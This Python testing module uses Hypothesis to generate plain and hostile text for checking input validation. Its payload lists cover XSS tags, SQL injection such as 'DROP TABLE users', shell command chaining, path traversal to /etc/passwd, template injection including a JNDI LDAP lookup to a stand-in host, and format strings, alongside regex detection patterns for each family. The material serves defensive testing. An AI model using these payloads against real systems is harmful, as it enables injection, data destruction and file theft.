"""A PlainTextPolicy in, plain texts and hostile ones out: markup, SQL, shell, paths, templates, controls, sheer size.

Source: documents 000 and 004 (inputs that break validation). The payloads do no harm where they get through: they show
that they did. The oracle knows the families of these payloads; it is no filter to put before a program.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable, Collection, Mapping
from dataclasses import dataclass

from hypothesis import strategies as st
from hypothesis.errors import InvalidArgument
from hypothesis.strategies import DrawFn, SearchStrategy

from .declare import strategy
from .edit import tile
from .policy import Fault, Invalid, choose_faults

_ALPHABET = "abc XYZ 019.,éß中"
_MARK = "\u0301"


class HostileFault(Fault):
    """What a hostile text tries, simplest first."""

    #: to be a tag, a script or a reference in HTML or XML
    MARKUP = "hostile.markup"
    #: to end a text in a statement
    SQL = "hostile.sql"
    #: to be another command
    SHELL = "hostile.shell"
    #: to leave the directory
    PATH = "hostile.path"
    #: to be computed by a template engine
    TEMPLATE = "hostile.template"
    #: to read what a format string can reach
    FORMAT = "hostile.format"
    #: to end a line, a text in C, or to command a terminal
    CONTROL = "hostile.control"
    #: to be shown in another order than it is read
    BIDI = "hostile.bidi"
    #: to look like another text
    INVISIBLE = "hostile.invisible"
    #: to be more marks on a letter than a line has room for
    COMBINING = "hostile.combining"
    #: to be half a character, which no encoding can write
    SURROGATE = "hostile.surrogate"
    #: one character over the most
    HUGE = "hostile.huge"


#: what is put between two spaces, simplest first
_PAYLOADS: Mapping[HostileFault, tuple[str, ...]] = {
    HostileFault.MARKUP: (
        "<b>bold</b>",
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "</textarea>",
        "<!--",
        "<![CDATA[x]]>",
        "javascript:alert(1)",
        "&lt;b&gt;",
        "&#x3c;",
    ),
    HostileFault.SQL: (
        "' OR '1'='1",
        "'; DROP TABLE users; --",
        "' UNION SELECT NULL --",
        "1'; SELECT 1 --",
        "admin' --",
        "x') OR ('1'='1",
    ),
    HostileFault.SHELL: ("; echo hostile", "$(echo hostile)", "`echo hostile`", "| echo hostile", "&& echo hostile"),
    HostileFault.PATH: ("../secret", "..\\secret", "/etc/passwd", "%2e%2e%2fsecret", "....//secret", "C:\\secret"),
    HostileFault.TEMPLATE: ("{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{% if 1 %}", "${jndi:ldap://x.test}"),
    HostileFault.FORMAT: ("{0.__class__}", "{}", "%s%s%s", "%n", "{name!r}", "%(name)s", "%99999d"),
}
#: one character that is put anywhere
_CHARACTERS: Mapping[HostileFault, tuple[str, ...]] = {
    HostileFault.CONTROL: ("\t", "\n", "\r", "\0", "\x1b", "\x08", "\x7f", "\x85"),
    HostileFault.BIDI: ("\u202e", "\u202d", "\u2066", "\u2067", "\u200f", "\u061c"),
    HostileFault.INVISIBLE: ("\u200b", "\u200d", "\ufeff", "\u00ad", "\u2060"),
    HostileFault.SURROGATE: ("\ud800", "\udfff"),
}
_BIDI = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
_FORMS: Mapping[HostileFault, re.Pattern[str]] = {
    HostileFault.MARKUP: re.compile(r"<[a-z/!?]|javascript:|&#?\w+;", re.IGNORECASE),
    HostileFault.SQL: re.compile(r"'\s*\)?\s*(;|--|or\b|and\b|union\b)|;\s*(drop|select|delete)\b", re.IGNORECASE),
    HostileFault.SHELL: re.compile(r"\$\(|`|[;|&]\s*(echo|cat|ls|rm|id|sh)\b"),
    HostileFault.PATH: re.compile(r"\.\.[/\\]|%2e%2e|\.{3,}//|(^|\s)/\w+/|\b[A-Z]:\\", re.IGNORECASE),
    HostileFault.TEMPLATE: re.compile(r"\{\{|\{%|[$#]\{|<%"),
    HostileFault.FORMAT: re.compile(r"(?<![{$#])\{[\w.\[\]!:]*\}|%(\(\w+\))?\d*[diosuxXgGrnp]"),
}


@dataclass(frozen=True, slots=True)
class PlainTextPolicy:
    """Which texts are plain: one line that means nothing to any interpreter."""

    #: characters, inclusive
    max_size: int = 1000
    #: combining marks in a row, inclusive; Vietnamese and Hebrew need two
    max_marks: int = 3

    def check(self, value: str, /) -> frozenset[HostileFault]:
        """Every family of hostile texts that this one belongs to; the empty set means plain.

        >>> sorted(PlainTextPolicy().check("Robert'); DROP TABLE students; --"))
        [HostileFault.SQL]
        """
        faults = {fault for fault, form in _FORMS.items() if form.search(value)}
        faults |= {fault for fault in map(_character_fault, set(value)) if fault is not None}
        if len(value) > self.max_size:
            faults.add(HostileFault.HUGE)
        row = 0
        for character in value:
            row = row + 1 if unicodedata.combining(character) else 0
            if row > self.max_marks:
                faults.add(HostileFault.COMBINING)
        return frozenset(faults)

    def near_misses(self) -> SearchStrategy[Invalid[str]]:
        """Hostile texts one character away from a plain one."""
        near = (*_CHARACTERS, HostileFault.COMBINING, HostileFault.HUGE)
        return choose_faults(hostile_by_fault(self), near)

    def boundaries(self) -> Mapping[str, Callable[[str], bool]]:
        """The shortest and the longest text, one in another script, and one with as many marks as are allowed."""
        return {
            "shortest": lambda value: len(value) == 1,
            "longest": lambda value: len(value) == self.max_size,
            "beyond ASCII": lambda value: not value.isascii(),
            "most marks": lambda value: _MARK * self.max_marks in value,
        }


@strategy()
def plain_texts(*, policy: PlainTextPolicy | None = None) -> SearchStrategy[str]:
    """Texts of one line that mean nothing to any interpreter; they must come through as they are.

    >>> from strategies import minimal
    >>> minimal(plain_texts(), lambda text: len(text) > 2)
    '000'

    :raises InvalidArgument: when drawn, for a limit too small for the payloads
    """
    policy = policy or PlainTextPolicy()
    _require_possible(policy)
    return st.one_of(
        st.text(_ALPHABET, min_size=1, max_size=40),
        st.sampled_from("aé中 "),
        tile(_ALPHABET, policy.max_size),
        _SHORT.map(lambda text: f"{text}e{_MARK * policy.max_marks}"),
    )


@strategy()
def invalid_plain_texts(
    *, policy: PlainTextPolicy | None = None, faults: Collection[HostileFault] | None = None
) -> SearchStrategy[Invalid[str]]:
    """Hostile texts, each of one family; beside it the plain text without the payload.

    >>> from strategies import minimal
    >>> minimal(invalid_plain_texts(faults=[HostileFault.PATH]))
    Invalid(value='../secret 0', fault=HostileFault.PATH, path=(), near=' 0')

    :raises InvalidArgument: when drawn, for a limit too small for the payloads
    """
    return choose_faults(hostile_by_fault(policy or PlainTextPolicy()), faults)


@strategy()
def hostile_text(
    *, policy: PlainTextPolicy | None = None, faults: Collection[HostileFault] | None = None
) -> SearchStrategy[str]:
    """Hostile texts, alone or between plain ones: what a program must store, show and search as what it is.

    Source: documents 000 and 004.

    >>> from strategies import minimal
    >>> minimal(hostile_text()), minimal(hostile_text(faults=[HostileFault.SQL]))
    ('<b>bold</b>', "' OR '1'='1")

    :raises InvalidArgument: when drawn, for a limit too small for the payloads
    """
    table = hostile_by_fault(policy or PlainTextPolicy())
    embedded = choose_faults(table, faults)
    wanted = set(table if faults is None else faults)
    alone = [text for fault, texts in {**_PAYLOADS, **_CHARACTERS}.items() if fault in wanted for text in texts]
    return st.one_of(*([st.sampled_from(alone)] if alone else []), _values(embedded))


@st.composite
def _values(draw: DrawFn, invalid: SearchStrategy[Invalid[str]]) -> str:
    return draw(invalid).value


_SHORT = st.text(_ALPHABET, min_size=1, max_size=20)
_PLACES = st.integers(0, 20)


def hostile_by_fault(policy: PlainTextPolicy) -> dict[HostileFault, SearchStrategy[Invalid[str]]]:
    """An invalid strategy for each family, simplest first."""
    _require_possible(policy)
    marks = _MARK * policy.max_marks
    table = {fault: _embedded(st.sampled_from(texts), fault) for fault, texts in _PAYLOADS.items()}
    table |= {fault: _inserted(st.sampled_from(texts), fault) for fault, texts in _CHARACTERS.items()}
    table[HostileFault.COMBINING] = _ended(_SHORT.map(lambda text: f"{text}e{marks}"), _MARK, HostileFault.COMBINING)
    table[HostileFault.HUGE] = _ended(tile(_ALPHABET, policy.max_size), "a", HostileFault.HUGE)
    return {fault: table[fault] for fault in HostileFault}


@st.composite
def _embedded(draw: DrawFn, payloads: SearchStrategy[str], fault: HostileFault) -> Invalid[str]:
    payload = draw(payloads)
    place = draw(_PLACES)
    text = draw(_SHORT)
    before, after = text[:place], text[place:]
    return Invalid(f"{before} {payload} {after}".lstrip(), fault, (), f"{before} {after}")


@st.composite
def _inserted(draw: DrawFn, characters: SearchStrategy[str], fault: HostileFault) -> Invalid[str]:
    character = draw(characters)
    place = draw(_PLACES)
    text = draw(_SHORT)
    return Invalid(text[:place] + character + text[place:], fault, (), text)


@st.composite
def _ended(draw: DrawFn, texts: SearchStrategy[str], end: str, fault: HostileFault) -> Invalid[str]:
    text = draw(texts)
    return Invalid(text + end, fault, (), text)


def _character_fault(character: str) -> HostileFault | None:
    if character in _BIDI:
        return HostileFault.BIDI
    category = unicodedata.category(character)
    return {"Cc": HostileFault.CONTROL, "Cf": HostileFault.INVISIBLE, "Cs": HostileFault.SURROGATE}.get(category)


def _require_possible(policy: PlainTextPolicy) -> None:
    if policy.max_size < 100 or policy.max_marks < 1 or policy.max_marks > 40:
        raise InvalidArgument(f"{policy!r}: max_size must be at least 100, max_marks 1 to 40")
